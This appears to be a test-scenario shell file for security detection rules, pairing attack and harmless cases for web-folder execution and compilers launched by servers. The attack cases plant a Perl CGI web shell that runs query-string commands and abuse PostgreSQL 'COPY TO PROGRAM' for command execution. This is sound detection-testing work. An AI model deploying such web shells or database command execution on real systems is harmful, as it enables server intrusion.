setpriv --reuid=www-data --regid=www-data --clear-groups /var/www/html/uploads/a.sh

#: program_run_from_web_folder harmless: an application's own tools
#: keep event.action == "exec" AND (process.executable startswith "/var/www" OR process.script startswith "/var/www")
mkdir -p /var/www/app/bin /var/www/app/node_modules/esbuild/bin
printf '#!/bin/sh\nid\n' > /var/www/app/bin/console
cp /usr/bin/id /var/www/app/node_modules/esbuild/bin/esbuild
chmod +x /var/www/app/bin/console
/var/www/app/bin/console
/var/www/app/node_modules/esbuild/bin/esbuild

#: compiler_run_by_server attack: apache2
# There is no compiler on this machine: what has its name does nothing.
ln -s /bin/true /usr/bin/gcc
cat > /usr/lib/cgi-bin/page <<'END'
#!/usr/bin/perl
print "Content-Type: text/plain\n\n";
($c = $ENV{QUERY_STRING}) =~ s/^c=|\+/ /g;
system($c);
END
chmod +x /usr/lib/cgi-bin/page
ln -s /etc/apache2/mods-available/cgid.* /etc/apache2/mods-enabled/
. /etc/apache2/envvars
mkdir -p /run/apache2/socks
timeout 10 apache2 -D FOREGROUND &
until ss -ltn | grep -q :80; do sleep 0.02; done
curl -s 'http://127.0.0.1/cgi-bin/page?c=cd+/tmp;gcc+-o+x+x.c'
kill %1
wait

#: compiler_run_by_server attack: postgres
# There is no compiler on this machine: what has its name does nothing.
ln -s /bin/true /usr/bin/cc
mkdir -p /run/postgresql && chown postgres /run/postgresql
postgres=/usr/lib/postgresql/15/bin/postgres
setpriv --reuid=postgres --regid=postgres --init-groups timeout 20 $postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf 2> /dev/null &
until setpriv --reuid=postgres --regid=postgres --clear-groups psql -qc "COPY (SELECT 'int main;') TO PROGRAM 'cat > /tmp/x.c; cc -o /tmp/x /tmp/x.c'" 2> /dev/null; do sleep 0.1; done
kill %1
wait

#: compiler_run_by_server harmless: a developer builds
#: keep event.action == "exec" AND process.name in ["make", "gcc"]
# There is no compiler on this machine: what has its name does nothing.
ln -s /bin/true /usr/bin/gcc
sh -c 'gcc -o /tmp/x /tmp/x.c'

#: compiler_run_by_server harmless: Python below a web server looks for a library
#: keep event.action == "exec" AND process.name in ["gcc", "ld"]
ln -s /bin/true /usr/bin/gcc
printf '#!/usr/bin/python3\nimport os\nprint("Content-Type: text/plain\\n\\n")\nos.system("gcc -Wl,-t -o /tmp/x -lmagic; true")\n' > /usr/lib/cgi-bin/page
chmod +x /usr/lib/cgi-bin/page
ln -s /etc/apache2/mods-available/cgid.* /etc/apache2/mods-enabled/
. /etc/apache2/envvars
mkdir -p /run/apache2/socks
timeout 10 apache2 -D FOREGROUND &
until ss -ltn | grep -q :80; do sleep 0.02; done
curl -s http://127.0.0.1/cgi-bin/page
kill %1
wait
